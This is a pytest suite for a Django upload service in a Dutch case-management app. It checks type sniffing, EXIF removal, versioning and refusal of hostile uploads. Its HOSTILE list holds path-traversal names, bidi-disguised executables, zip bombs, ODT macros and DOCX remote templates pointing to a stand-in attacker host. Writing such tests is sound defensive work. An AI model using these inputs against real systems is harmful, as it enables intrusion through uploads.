"""Uploading to the dossier: the allow-list sniffed from the bytes, hostile uploads refused
with nothing stored, photos without their EXIF, versions kept."""

import io

import pytest
from django.core.exceptions import ValidationError
from PIL import Image

from tests import documents_helpers as files
from tests.factories import CaseFactory, casemanager
from woonoverlast.audit.models import AuditEvent
from woonoverlast.documents import services
from woonoverlast.documents.models import Document

pytestmark = pytest.mark.django_db


@pytest.fixture
def root(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    return tmp_path / "dossier"


@pytest.fixture
def case():
    return CaseFactory()


@pytest.fixture
def cm(case):
    return casemanager()


def upload(case, by, *uploads, **kwargs):
    kwargs.setdefault("document_type", "overig")
    return services.documents_upload(case=case, files=list(uploads), by=by, **kwargs)


@pytest.mark.parametrize("name", list(files.ALLOWED))
def test_each_allowed_type_is_stored_with_its_sniffed_type(root, case, cm, name):
    make, content_type = files.ALLOWED[name]
    (document,) = upload(case, cm, files.upload(name, make()))
    assert document.content_type == content_type
    assert document.size == len(document.file.open("rb").read())
    assert len(document.sha256) == 64
    assert files.stored_files(root)  # the bytes are in the private folder
    assert AuditEvent.objects.filter(object_id=str(document.pk), action="create").exists()


def test_several_files_at_once(root, case, cm):
    documents = upload(
        case, cm, files.upload("a.pdf", files.pdf()), files.upload("b.txt", files.text())
    )
    assert [d.title for d in documents] == ["a", "b"]
    assert Document.objects.filter(case=case).count() == 2


def test_the_name_says_nothing_the_bytes_decide(root, case, cm):
    (document,) = upload(case, cm, files.upload("foto.pdf", files.png()))
    assert document.content_type == "image/png"


class FakeUpload(io.BytesIO):
    """An upload whose name Django has not cleaned (a service called from elsewhere)."""

    def __init__(self, name, data):
        super().__init__(data)
        self.name = name
        self.size = len(data)


HOSTILE = [
    ("setup.pdf", files.executable(), "een programma"),
    ("pagina.txt", files.html(), "webpagina"),
    ("verslag.docx", files.zip_bomb_docx(), "zip-bom"),
    ("leeg.pdf", b"", "leeg"),
    ("../../etc/verslag.pdf", files.pdf(), "pad"),
    ("..\\verslag.pdf", files.pdf(), "pad"),
    ("a" * 196 + ".pdf", files.pdf(), "te lang"),
    ("foto\u202egpj.exe", files.pdf(), "leesrichting"),
    ("verslag\u2067.pdf", files.pdf(), "leesrichting"),
    ("brief.odt", files.odt_with({"Basic/Standard/Module1.xml": "<x/>"}), "macro"),
    ("brief.odt", files.odt_with({"Scripts/python/run.py": "import os"}), "macro"),
    (
        "brief.odt",
        files.odt_with(
            {},
            content='<office:document-content xmlns:office="o" xmlns:script="s" '
            'xmlns:xlink="x"><office:event-listeners><script:event-listener '
            'script:event-name="dom:load" '
            'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;'
            'location=document"/></office:event-listeners></office:document-content>',
        ),
        "macro",
    ),
    (
        "verslag.docx",
        files.docx_with_relationship(
            "word/_rels/settings.xml.rels",
            files.RELATIONSHIPS + "attachedTemplate",
            "https://aanvaller.example/sjabloon.dotm",
        ),
        "van buiten het bestand",
    ),
    (
        "verslag.docx",
        files.docx_with_relationship(
            "word/_rels/settings.xml.rels",
            files.RELATIONSHIPS + "attachedTemplate",
            "file://aanvaller.example/share/sjabloon.dotm",
        ),
        "van buiten het bestand",
    ),
]


# Ids from the names and messages, not the bytes: a zip made at import carries the time, and
# two xdist workers importing it a second apart would collect different ids.
@pytest.mark.parametrize(
    ("name", "data", "message"),
    HOSTILE,
    ids=lambda v: "bytes" if isinstance(v, bytes) else str(v)[:20],
)
def test_hostile_uploads_are_refused_and_nothing_is_stored(root, case, cm, name, data, message):
    good = files.upload("goed.pdf", files.pdf())
    with pytest.raises(ValidationError) as refused:
        upload(case, cm, good, FakeUpload(name, data))
    assert message in " ".join(refused.value.messages)
    assert not Document.objects.exists()
    assert files.stored_files(root) == []


def test_too_large_is_refused(root, case, cm, settings):
    settings.DOCUMENT_MAX_UPLOAD_MB = 1
    big = files.text() * (1024 * 1024 // len(files.text()) + 10)
    with pytest.raises(ValidationError) as refused:
        upload(case, cm, files.upload("groot.txt", big))
    assert "te groot" in refused.value.messages[0] and "1 MB" in refused.value.messages[0]
    assert files.stored_files(root) == []


def test_a_failure_while_saving_removes_the_bytes_already_written(root, case, cm, monkeypatch):
    from woonoverlast.documents.services import uploads

    def broken(*args, **kwargs):
        raise RuntimeError("database weg")

    monkeypatch.setattr(uploads, "_audit_new", broken)
    with pytest.raises(RuntimeError):
        upload(case, cm, files.upload("a.jpg", files.jpeg()))
    assert files.stored_files(root) == []
    assert not Document.objects.exists()


def test_a_photo_loses_its_gps_exif_and_keeps_its_orientation(root, case, cm):
    original = files.jpeg(gps=True, orientation=6, size=(40, 20))
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(files.GPS_IFD)
    (document,) = upload(case, cm, files.upload("huisbezoek.jpg", original), document_type="foto")
    stored = Image.open(io.BytesIO(document.file.open("rb").read()))
    exif = stored.getexif()
    assert not exif.get_ifd(files.GPS_IFD)
    assert files.GPS_IFD not in exif and files.ORIENTATION not in exif
    assert "exif" not in stored.info
    assert stored.size == (20, 40)  # orientation 6 (rotated 90°) applied to the pixels
    thumbnail = Image.open(io.BytesIO(document.thumbnail.open("rb").read()))
    assert max(thumbnail.size) <= 320 and "exif" not in thumbnail.info


def test_a_new_version_keeps_the_old_one(root, case, cm):
    (first,) = upload(case, cm, files.upload("verslag.docx", files.docx_bytes("eerste")))
    second = services.document_add_version(
        document=first, file=files.upload("verslag.docx", files.docx_bytes("tweede")), by=cm
    )
    first.refresh_from_db()
    assert (second.version, second.previous_version, second.is_current) == (2, first, True)
    assert first.is_current is False
    assert first.file.open("rb").read() != second.file.open("rb").read()
    assert list(Document.objects.filter(case=case).current()) == [second]
    with pytest.raises(ValidationError):
        services.document_add_version(
            document=first, file=files.upload("x.pdf", files.pdf()), by=cm
        )


def test_files_of_a_write_rolled_back_around_the_service_are_removed_after(root, case, cm):
    from django.db import transaction

    with transaction.atomic():
        documents = upload(case, cm, files.upload("a.jpg", files.jpeg()))
        assert len(files.stored_files(root)) == 2  # the photo and its thumbnail
        transaction.set_rollback(True)
    assert len(services.documents_remove_if_rolled_back(documents)) == 2
    assert files.stored_files(root) == []


def test_the_upload_form_saves_once_per_page(client, root, case, cm):
    from django.urls import reverse

    client.force_login(cm)
    url = reverse("documents:upload", kwargs={"reference": case.reference})
    token = client.get(url).context["form"]["submission_token"].value()
    for _ in range(2):  # a double click
        response = client.post(
            url,
            {
                "files": [files.upload("a.pdf", files.pdf())],
                "document_type": "overig",
                "submission_token": token,
            },
        )
        assert response.status_code == 302
    assert Document.objects.count() == 1
    assert len(files.stored_files(root)) == 1


@pytest.mark.parametrize(
    ("width", "height", "message"),
    [
        (10_000, 5_001, "te groot"),  # one row past the limit: refused from the header
        (8_000, 8_000, "te groot"),
        (30_000, 30_000, "te groot"),  # past Pillow's own limit too
        (10_000, 5_000, "beschadigd"),  # at the limit: decoded (and this one has no pixels)
    ],
)
def test_an_image_with_too_many_pixels_is_refused_before_decoding(
    root, case, cm, width, height, message
):
    import time

    from woonoverlast.documents import images

    assert images.MAX_PIXELS == 10_000 * 5_000
    started = time.monotonic()
    with pytest.raises(ValidationError) as refused:
        upload(case, cm, files.upload("bom.png", files.png_header(width, height)))
    assert message in refused.value.messages[0]
    assert time.monotonic() - started < 2
    assert files.stored_files(root) == []


def test_a_word_file_with_a_hyperlink_is_allowed(root, case, cm):
    """A link the reader clicks is the one external relationship an Office file may have."""
    data = files.docx_with_relationship(
        "word/_rels/footnotes.xml.rels", files.RELATIONSHIPS + "hyperlink", "https://example.org"
    )
    (document,) = upload(case, cm, files.upload("verslag.docx", data))
    assert document.content_type.endswith("wordprocessingml.document")


def test_an_odt_that_mentions_macros_in_its_text_is_allowed(root, case, cm):
    data = files.odt_with(
        {}, content="<office:document-content>Macro: geen</office:document-content>"
    )
    (document,) = upload(case, cm, files.upload("brief.odt", data))
    assert document.content_type == "application/vnd.oasis.opendocument.text"


@pytest.mark.parametrize("title", ["Foto\u202egpj.exe", "Verslag\u2066huisbezoek", "A\x07B"])
def test_a_title_with_a_bidi_or_control_character_is_refused(root, case, cm, title):
    with pytest.raises(ValidationError) as refused:
        upload(case, cm, files.upload("a.pdf", files.pdf()), title=title)
    assert "title" in refused.value.error_dict
    assert not Document.objects.exists()


def test_a_title_keeps_its_text_without_invisible_formatting(root, case, cm):
    (document,) = upload(
        case, cm, files.upload("a.pdf", files.pdf()), title=" Huis\u00adbezoek\tkeuken "
    )
    assert document.title == "Huisbezoek keuken"


def test_the_upload_form_says_why_a_title_is_refused(client, root, case, cm):
    from django.urls import reverse

    client.force_login(cm)
    url = reverse("documents:upload", kwargs={"reference": case.reference})
    response = client.post(
        url,
        {
            "files": [files.upload("a.pdf", files.pdf())],
            "document_type": "overig",
            "title": "Foto\u202egpj.exe",
        },
    )
    assert response.status_code == 200
    assert "leesrichting" in response.content.decode()
    assert response.context["form"]["title"].value() == "Foto\u202egpj.exe"  # input kept
    assert not Document.objects.exists()


def test_each_file_of_an_upload_gets_its_own_soort(root, case, cm):
    """One choice for a mixed upload: Foto only for the images, the rest what they are."""
    photo, report, mail = upload(
        case,
        cm,
        files.upload("keuken.jpg", files.jpeg()),
        files.upload("verslag.pdf", files.pdf()),
        files.upload("mail.eml", files.eml()),
        document_type="foto",
    )
    assert [photo.document_type, report.document_type, mail.document_type] == [
        "foto",
        "overig",
        "email",
    ]
    derived = upload(
        case,
        cm,
        files.upload("a.png", files.png()),
        files.upload("b.pdf", files.pdf()),
        document_type="",
    )
    assert [d.document_type for d in derived] == ["foto", "overig"]
    besluit = upload(
        case,
        cm,
        files.upload("c.pdf", files.pdf()),
        files.upload("d.jpg", files.jpeg()),
        document_type="besluit",
    )
    assert [d.document_type for d in besluit] == ["besluit", "besluit"]  # a scanned besluit


def test_the_soort_of_one_document_can_be_corrected(client, root, case, cm):
    from django.urls import reverse

    (report,) = upload(case, cm, files.upload("verslag.pdf", files.pdf()), document_type="")
    with pytest.raises(ValidationError, match="Alleen een afbeelding"):
        services.document_set_type(document=report, document_type="foto", by=cm)
    client.force_login(cm)
    url = reverse("documents:set_type", kwargs={"reference": case.reference, "pk": report.pk})
    assert "Soort wijzigen" in client.get(report.get_absolute_url()).content.decode()
    response = client.post(url, {"document_type": "onderzoeksverslag"}, follow=True)
    assert "De soort van het document is gewijzigd." in response.content.decode()
    report.refresh_from_db()
    assert report.document_type == "onderzoeksverslag"
    event = AuditEvent.objects.get(object_id=str(report.pk), action="update")
    assert event.changes == {"soort": {"oud": "overig", "nieuw": "onderzoeksverslag"}}
    refused = client.post(url, {"document_type": "foto"}, follow=True)
    assert "Alleen een afbeelding" in refused.content.decode()
